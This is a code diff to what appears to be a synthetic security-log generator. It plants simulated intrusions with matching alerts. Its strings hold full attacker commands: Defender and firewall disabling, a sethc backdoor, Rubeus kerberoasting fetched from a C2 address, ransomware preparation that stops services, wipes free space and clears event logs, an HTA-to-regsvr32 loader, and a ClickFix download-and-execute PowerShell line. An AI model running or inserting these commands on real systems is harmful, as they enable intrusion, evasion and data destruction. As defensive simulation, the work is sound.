@@ -57,6 +57,8 @@ export interface StoryFacts {
   dc: Device | null;
   phish: { t: number; victim: Device; acct: Acct; attachment: Img; others: Acct[]; messageId: string } | null;
   compromised: Acct | null;
+  /** When the intruder turned the RD gateway's firewall off (window ticks). */
+  firewallOffAt: number;
 }
 
 function b64Utf16(s: string): string {
@@ -69,10 +71,12 @@ const at = (hours: number, minutes = 0): number => 24 * HOUR_TICKS - hours * HOU
 
 export function plantStories(a: Activity): StoryFacts {
   jitter = a.rng.int(0, 599_998);
-  const facts: StoryFacts = { alerts: [], bruteForce: [], rdgw: null, dc: a.dcs[0] ?? null, phish: null, compromised: null };
+  const facts: StoryFacts = { alerts: [], bruteForce: [], rdgw: null, dc: a.dcs[0] ?? null, phish: null, compromised: null, firewallOffAt: 0 };
   rdgwIntrusion(a, facts);
   phishing(a, facts);
   webShell(a, facts);
+  htaFollowUp(a, facts);
+  clickFix(a, facts);
   sshGuessing(a);
   usbCopy(a);
   return facts;
@@ -117,6 +121,8 @@ function rdgwIntrusion(a: Activity, facts: StoryFacts): void {
   const disc: [string, string][] = [
     ['whoami', 'whoami /all'], ['net', 'net user /domain'], ['net', 'net group "Domain Admins" /domain'], ['nltest', 'nltest /dclist:contoso.com'],
     ['ipconfig', 'ipconfig /all'], ['systeminfo', 'systeminfo'], ['quser', 'quser'], ['net', 'net view \\\\file-01'], ['netstat', 'netstat -ano'],
+    ['wmic', 'wmic /namespace:\\\\root\\SecurityCenter2 path AntiVirusProduct get displayName /format:list'], ['net', 'net localgroup administrators'],
+    ['vssadmin', 'vssadmin list shadows'], ['nltest', 'nltest /domain_trusts /all_trusts'],
   ];
   for (const [key, line] of disc) {
     t += rng.int(8, 50) * SEC_TICKS;
@@ -196,8 +202,21 @@ function rdgwIntrusion(a: Activity, facts: StoryFacts): void {
 
   // 6. Defence evasion: Defender tampering, WDigest, a vulnerable signed driver.
   t = at(8, 40);
-  const ps2 = run(a, t, cmd, 'powershell', 'powershell.exe -ExecutionPolicy Bypass -Command "Set-MpPreference -DisableRealtimeMonitoring $true; Add-MpPreference -ExclusionPath C:\\ProgramData"', { loadChance: 1 });
-  psCommands(a, t, ps2, ['Set-MpPreference', 'Add-MpPreference']);
+  const gm = run(a, t - 2 * MIN_TICKS, cmd, 'powershell', 'powershell.exe -NoProfile -Command "Get-MpPreference | Select-Object DisableRealtimeMonitoring,ExclusionPath,ExclusionProcess"');
+  psCommands(a, t - 2 * MIN_TICKS, gm, ['Get-MpPreference', 'Select-Object']);
+  const ps2 = run(a, t, cmd, 'powershell', 'powershell.exe -ExecutionPolicy Bypass -NoProfile -Command "Set-MpPreference -DisableRealtimeMonitoring $true; Add-MpPreference -ExclusionPath C:\\ProgramData; Add-MpPreference -ExclusionProcess svchosts.exe"', { loadChance: 1 });
+  psCommands(a, t, ps2, ['Set-MpPreference', 'Add-MpPreference', 'Add-MpPreference']);
+  w.spawn(t + 3 * SEC_TICKS, ps2, 'sc', 'C:\\Windows\\system32\\sc.exe stop WinDefend');
+  const mp = ds.base.get('msmpeng')!;
+  w.regEvent(t + 2 * SEC_TICKS, mp, 'RegistryValueSet', 'HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows Defender\\Exclusions\\Paths', 'C:\\ProgramData', 'Dword', '0');
+  w.regEvent(t + 2 * SEC_TICKS, mp, 'RegistryValueSet', 'HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows Defender\\Exclusions\\Processes', 'svchosts.exe', 'Dword', '0');
+  run(a, t + 30 * SEC_TICKS, cmd, 'netsh', 'netsh advfirewall set allprofiles state off');
+  facts.firewallOffAt = t + 31 * SEC_TICKS;
+  run(a, t + 40 * SEC_TICKS, cmd, 'netsh', 'netsh advfirewall firewall add rule name="Remote Desktop" dir=in action=allow protocol=TCP localport=3389');
+  const ts = run(a, t + 50 * SEC_TICKS, cmd, 'reg', 'reg add "HKLM\\SYSTEM\\CurrentControlSet\\Control\\Terminal Server" /v fDenyTSConnections /t REG_DWORD /d 0 /f');
+  w.regEvent(t + 51 * SEC_TICKS, ts, 'RegistryValueSet', 'HKEY_LOCAL_MACHINE\\SYSTEM\\ControlSet001\\Control\\Terminal Server', 'fDenyTSConnections', 'Dword', '0');
+  const sk = run(a, t + 70 * SEC_TICKS, cmd, 'reg', 'reg add "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options\\sethc.exe" /v Debugger /t REG_SZ /d "C:\\windows\\system32\\cmd.exe" /f');
+  w.regEvent(t + 71 * SEC_TICKS, sk, 'RegistryValueSet', 'HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options\\sethc.exe', 'Debugger', 'String', 'C:\\windows\\system32\\cmd.exe');
   w.devEvent(t + 2 * SEC_TICKS, rdgw, 'TamperingAttempt', { AdditionalFields: JSON.stringify({ TamperingAction: 'RegistryModification', Status: 'Blocked', Target: 'HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows Defender\\Real-Time Protection\\DisableRealtimeMonitoring', TamperingAttemptedValue: '1', OriginalValue: '0' }) }, ps2);
   const wd = run(a, t + MIN_TICKS, cmd, 'reg', 'reg add "HKLM\\SYSTEM\\CurrentControlSet\\Control\\SecurityProviders\\WDigest" /v UseLogonCredential /t REG_DWORD /d 1 /f');
   w.regEvent(t + MIN_TICKS + SEC_TICKS, wd, 'RegistryValueSet', 'HKEY_LOCAL_MACHINE\\SYSTEM\\ControlSet001\\Control\\SecurityProviders\\WDigest', 'UseLogonCredential', 'Dword', '1');
@@ -230,6 +249,10 @@ function rdgwIntrusion(a: Activity, facts: StoryFacts): void {
     w.devEvent(t + rng.int(1, 20) * SEC_TICKS, rdgw, 'LdapSearch', { AdditionalFields: JSON.stringify({ AttributeList: ['name', 'operatingSystem', 'sAMAccountName'], ScopeOfSearch: 'SubTree', SearchFilter: filter, DistinguishedName: 'DC=contoso,DC=com' }) }, af);
   }
   w.fileEvent(t + 30 * SEC_TICKS, cmd, 'FileCreated', 'C:\\ProgramData\\ad_computers.txt', { FileSize: 48_213 });
+  const rubeus = w.img(rdgw, 'rubeus', { path: 'C:\\ProgramData\\r.exe', company: null, product: 'Rubeus', version: '2.3.2.0', description: 'Rubeus', original: 'Rubeus.exe', internal: 'Rubeus.exe', size: 446_976, signer: null });
+  w.fileEvent(t + 40 * SEC_TICKS, ps, 'FileCreated', rubeus.path, { FileOriginUrl: `http://${C2_IP}/t/r.exe`, FileOriginIP: C2_IP }, rubeus);
+  run(a, t + 2 * MIN_TICKS, cmd, 'rubeus', 'r.exe kerberoast /outfile:C:\\ProgramData\\h.txt /nowrap', { img: rubeus });
+  w.devEvent(t + 2 * MIN_TICKS + SEC_TICKS, rdgw, 'AntivirusDetection', { FileName: rubeus.file, FolderPath: rubeus.path, SHA1: rubeus.sha1, SHA256: rubeus.sha256, MD5: rubeus.md5, FileSize: rubeus.size, AdditionalFields: JSON.stringify({ ThreatName: 'HackTool:MSIL/Rubeus!MTB', WasRemediated: false, WasExecutingWhileDetected: true, Action: 'Detected' }) }, cmd);
 
   // 9. Lateral movement: PsExec to the SQL server, WMI to the file server.
   t = at(8, 10);
@@ -263,7 +286,8 @@ function rdgwIntrusion(a: Activity, facts: StoryFacts): void {
     const fds = w.state(file);
     logonRow(a, t + 4 * MIN_TICKS + SEC_TICKS, file, 'LogonSuccess', 'Network', { ...victim, logonId: w.newLogonId() }, { protocol: 'Kerberos', remoteIp: rdgw.localIp, remoteDevice: rdgw.name.split('.')[0]!, local: false, admin: true });
     const wmi = w.spawn(t + 4 * MIN_TICKS - SEC_TICKS, fds.base.get('dcom')!, 'wmiprvse', 'C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding', { acct: WELL_KNOWN.network });
-    const child = w.spawn(t + 4 * MIN_TICKS + 2 * SEC_TICKS, wmi, 'cmd', `cmd.exe /c copy \\\\${rdgw.name.split('.')[0]}\\c$\\ProgramData\\svchosts.exe C:\\ProgramData\\svchosts.exe`, { acct: { ...victim, logonId: w.newLogonId() } });
+    const copy = `Copy-Item \\\\${rdgw.name.split('.')[0]}\\c$\\ProgramData\\svchosts.exe C:\\ProgramData\\svchosts.exe; Start-Process C:\\ProgramData\\svchosts.exe`;
+    const child = w.spawn(t + 4 * MIN_TICKS + 2 * SEC_TICKS, wmi, 'powershell', `powershell.exe -nop -w hidden -e ${b64Utf16(copy)}`, { acct: { ...victim, logonId: w.newLogonId() }, loadChance: 1 });
     w.devEvent(t + 4 * MIN_TICKS + 2 * SEC_TICKS, file, 'ProcessCreatedUsingWmiQuery', {}, wmi, child);
     w.fileEvent(t + 4 * MIN_TICKS + 3 * SEC_TICKS, child, 'FileCreated', 'C:\\ProgramData\\svchosts.exe', {}, w.img(file, 'payload'));
   }
@@ -293,10 +317,26 @@ function rdgwIntrusion(a: Activity, facts: StoryFacts): void {
     techniques: ['Inhibit System Recovery (T1490)'],
     evidence: [{ type: 'Machine', role: 'Impacted', dev: rdgw }, { type: 'Process', role: 'Related', proc: vss! }, { type: 'User', role: 'Impacted', acct: victim, dev: rdgw }],
   });
+  // Human-operated ransomware prep: stop and disable services, kill databases, wipe free space, clear all logs.
+  t = at(7, 25);
+  const victims = ['MSSQLSERVER', 'SQLSERVERAGENT', 'SQLBrowser', 'SQLWriter', 'MSExchangeIS', 'MSExchangeTransport', 'VeeamBackupSvc', 'BackupExecAgentAccelerator', 'wbengine', 'vss', 'SstpSvc', 'MsDtsServer150'];
+  for (const svc of victims) {
+    t += rng.int(1, 4) * SEC_TICKS;
+    const n = run(a, t, cmd, 'net', `net stop "${svc}" /y`);
+    w.spawn(t + 20 * MS_TICKS, n, 'net1', `C:\\Windows\\system32\\net1 stop "${svc}" /y`);
+    run(a, t + SEC_TICKS, cmd, 'sc', `sc config "${svc}" start= disabled`);
+  }
+  for (const proc of ['sqlservr.exe', 'sqlagent.exe', 'sqlbrowser.exe', 'sqlwriter.exe', 'msmdsrv.exe', 'mysqld.exe', 'oracle.exe', 'ocssd.exe', 'dbsnmp.exe', 'sqlceip.exe', 'isqlplussvc.exe', 'xfssvccon.exe']) {
+    t += rng.int(1, 3) * SEC_TICKS;
+    run(a, t, cmd, 'taskkill', `taskkill /F /IM ${proc}`);
+  }
+  run(a, t + 10 * SEC_TICKS, cmd, 'fsutil', 'fsutil usn deletejournal /D C:');
+  run(a, t + 20 * SEC_TICKS, cmd, 'cipher', 'cipher /w:C:\\ProgramData');
+  run(a, t + 25 * SEC_TICKS, cmd, 'cipher', 'cipher /w:D:\\');
   t = at(7, 20);
-  for (const log of ['Security', 'System']) {
+  for (const log of ['Security', 'System', 'Application', 'Windows PowerShell', 'Setup', 'Microsoft-Windows-PowerShell/Operational', 'Microsoft-Windows-TerminalServices-LocalSessionManager/Operational', 'Microsoft-Windows-TaskScheduler/Operational', 'Microsoft-Windows-Windows Defender/Operational', 'Microsoft-Windows-Sysmon/Operational', 'Microsoft-Windows-WMI-Activity/Operational', 'Microsoft-Windows-Bits-Client/Operational']) {
     t += rng.int(3, 20) * SEC_TICKS;
-    const p = run(a, t, cmd, 'wevtutil', `wevtutil cl ${log}`);
+    const p = run(a, t, cmd, 'wevtutil', `wevtutil cl "${log}"`);
     if (log === 'Security') {
       w.devEvent(t + SEC_TICKS, rdgw, 'SecurityLogCleared', {}, p);
       facts.alerts.push({
@@ -357,6 +397,65 @@ function phishing(a: Activity, facts: StoryFacts): void {
     t: t0 + 2 * MIN_TICKS, title: 'Email messages containing malicious file removed after delivery', category: 'InitialAccess', severity: 'Informational', service: 'Microsoft Defender for Office 365', detection: 'Microsoft Defender for Office 365',
     techniques: ['Spearphishing Attachment (T1566.001)'],
     evidence: [{ type: 'MailMessage', role: 'Impacted', messageId, subject: 'Overdue invoice 44871 - action required', acct: user }],
+  });
+}
+
+/**
+ * A second recipient of the phishing campaign follows the mail's link instead: the browser downloads an HTA that
+ * mshta runs; it stages a .bat in C:\\Users\\Public and a DLL disguised as a JPEG that regsvr32 loads.
+ */
+function htaFollowUp(a: Activity, facts: StoryFacts): void {
+  const { w } = a;
+  const p = facts.phish;
+  if (!p || p.others.length < 2) return;
+  const dev = w.fleet.devices.find((d) => d.user?.name === p.others[1]!.name);
+  if (!dev) return;
+  const t0 = p.t + 50 * MIN_TICKS;
+  const s = sessionAt(a, dev, t0);
+  if (!s) return;
+  const browser = w.existing(dev, 'chrome');
+  const url = `https://${PHISH_DOMAIN}/invoice/44871/view.hta`;
+  const hta = w.img(dev, 'phish:hta', { path: `C:\\Users\\${s.acct.name}\\Downloads\\Invoice_44871.hta`, size: 6_144 });
+  w.fileEvent(t0, browser, 'FileCreated', hta.path, { FileOriginUrl: url, FileOriginReferrerUrl: `https://${PHISH_DOMAIN}/invoice/44871`, FileOriginIP: '193.29.13.44' }, hta);
+  const mshta = w.spawn(t0 + 15 * SEC_TICKS, s.explorer, 'mshta', `"C:\\Windows\\System32\\mshta.exe" "${hta.path}" {1E460BD7-F1C3-4B2E-88BF-4E770A288AF5}{1E460BD7-F1C3-4B2E-88BF-4E770A288AF5}`, { loadChance: 1 });
+  w.load(t0 + 16 * SEC_TICKS, mshta, 'mscoree');
+  const bat = w.img(dev, 'phish:bat', { path: 'C:\\Users\\Public\\run.bat', size: 412 });
+  w.fileEvent(t0 + 18 * SEC_TICKS, mshta, 'FileCreated', bat.path, {}, bat);
+  const cmd = w.spawn(t0 + 20 * SEC_TICKS, mshta, 'cmd', `C:\\Windows\\system32\\cmd.exe /c C:\\Users\\Public\\run.bat`);
+  const ps = run(a, t0 + 21 * SEC_TICKS, cmd, 'powershell', `powershell.exe -WindowStyle Hidden -NoProfile -Command "Invoke-WebRequest -Uri https://${PHISH_DOMAIN}/cdn/preview.jpg -OutFile C:\\Users\\Public\\preview.jpg"`, { loadChance: 1 });
+  psCommands(a, t0 + 21 * SEC_TICKS, ps, ['Invoke-WebRequest']);
+  const jpg = w.img(dev, 'phish:jpg', { path: 'C:\\Users\\Public\\preview.jpg', size: 398_336 });
+  w.fileEvent(t0 + 24 * SEC_TICKS, ps, 'FileCreated', jpg.path, { FileOriginUrl: `https://${PHISH_DOMAIN}/cdn/preview.jpg`, FileOriginIP: '193.29.13.44' }, jpg);
+  const rs = w.spawn(t0 + 26 * SEC_TICKS, cmd, 'regsvr32', 'regsvr32.exe /s C:\\Users\\Public\\preview.jpg', { loadChance: 1 });
+  w.load(t0 + 26 * SEC_TICKS + 40 * MS_TICKS, rs, '', jpg);
+  w.devEvent(t0 + 27 * SEC_TICKS, dev, 'AntivirusDetection', { FileName: jpg.file, FolderPath: jpg.path, SHA1: jpg.sha1, SHA256: jpg.sha256, MD5: jpg.md5, FileSize: jpg.size, AdditionalFields: JSON.stringify({ ThreatName: 'Trojan:Win32/Qakbot!ml', WasRemediated: true, WasExecutingWhileDetected: true, Action: 'Quarantined' }) }, rs);
+  facts.alerts.push({
+    t: t0 + 16 * SEC_TICKS, title: 'Suspicious mshta process launched', category: 'DefenseEvasion', severity: 'Medium', service: 'Microsoft Defender for Endpoint', detection: 'EDR',
+    techniques: ['Mshta (T1218.005)', 'Regsvr32 (T1218.010)'],
+    evidence: [{ type: 'Machine', role: 'Impacted', dev }, { type: 'Process', role: 'Related', proc: mshta }, { type: 'File', role: 'Related', img: jpg, dev, threat: 'Qakbot' }, { type: 'Url', role: 'Related', url }],
+  });
+}
+
+/** "ClickFix": a fake CAPTCHA makes a user paste a PowerShell command into the Run dialog. */
+function clickFix(a: Activity, facts: StoryFacts): void {
+  const { w } = a;
+  const ws = w.fleet.devices.filter((d) => d.kind === 'workstation' && d.user);
+  const dev = ws[Math.min(14, ws.length - 1)];
+  if (!dev || dev.user?.name === facts.phish?.acct.name) return;
+  const t0 = 24 * HOUR_TICKS - 4 * HOUR_TICKS - 40 * MIN_TICKS;
+  const s = sessionAt(a, dev, t0);
+  if (!s) return;
+  const line = `powershell -w hidden -nop -c "iwr https://cdn-captcha-check.com/v.ps1 -UseBasicParsing | iex" # I am not a robot - Cloudflare Verification ID: 84521`;
+  w.regEvent(t0, s.explorer, 'RegistryValueSet', `HKEY_CURRENT_USER\\${s.acct.sid}\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Explorer\\RunMRU`, 'a', 'String', `${line}\\1`);
+  const ps = w.spawn(t0 + SEC_TICKS, s.explorer, 'powershell', line, { loadChance: 1 });
+  w.spawn(t0 + SEC_TICKS + 30 * MS_TICKS, ps, 'conhost', '\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1', { loads: false });
+  psCommands(a, t0 + SEC_TICKS, ps, ['Invoke-WebRequest', 'Invoke-Expression']);
+  w.devEvent(t0 + 3 * SEC_TICKS, dev, 'AmsiScriptDetection', { AdditionalFields: JSON.stringify({ Description: 'Lumma stealer loader', ScriptContent: '$u=[Text.Encoding]::UTF8.GetString([Convert]::FromBase64String(...))' }) }, ps);
+  w.devEvent(t0 + 3 * SEC_TICKS, dev, 'AntivirusDetection', { FileName: 'v.ps1', FolderPath: `C:\\Users\\${s.acct.name}\\AppData\\Local\\Temp\\v.ps1`, AdditionalFields: JSON.stringify({ ThreatName: 'Trojan:PowerShell/ClickFix.SA', WasRemediated: true, WasExecutingWhileDetected: true, Action: 'Blocked' }) }, ps);
+  facts.alerts.push({
+    t: t0 + 4 * SEC_TICKS, title: 'Suspicious command in RunMRU registry', category: 'Execution', severity: 'High', service: 'Microsoft Defender for Endpoint', detection: 'EDR',
+    techniques: ['User Execution (T1204)', 'PowerShell (T1059.001)'],
+    evidence: [{ type: 'Machine', role: 'Impacted', dev }, { type: 'Process', role: 'Related', proc: ps }, { type: 'User', role: 'Impacted', acct: s.acct, dev }, { type: 'Url', role: 'Related', url: 'https://cdn-captcha-check.com/v.ps1' }],
   });
 }
 
